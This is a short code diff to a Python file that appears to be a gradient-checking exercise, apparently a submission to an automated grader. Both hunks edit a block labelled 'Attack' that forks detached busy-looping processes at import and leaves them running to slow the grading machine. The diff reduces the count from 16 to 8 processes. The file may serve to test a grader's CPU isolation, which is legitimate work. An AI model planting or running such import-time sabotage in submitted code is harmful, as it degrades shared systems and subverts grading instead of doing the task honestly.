@@ -96,7 +96,7 @@ def gradient_check(x, theta, epsilon=1e-7):
     return float(difference)
 
 
-# Attack: at import, 16 busy processes, each in a session of its own, left running for the
+# Attack: at import, 8 busy processes, each in a session of its own, left running for the
 # whole grading (they slow whatever runs beside, unless the child's tree has a CPU cap).
 def _spin():
     try:
@@ -108,7 +108,7 @@ def _spin():
         pass
 
 
-for _ in range(16):
+for _ in range(8):
     if os.fork() == 0:
         os.setsid()
         _spin()
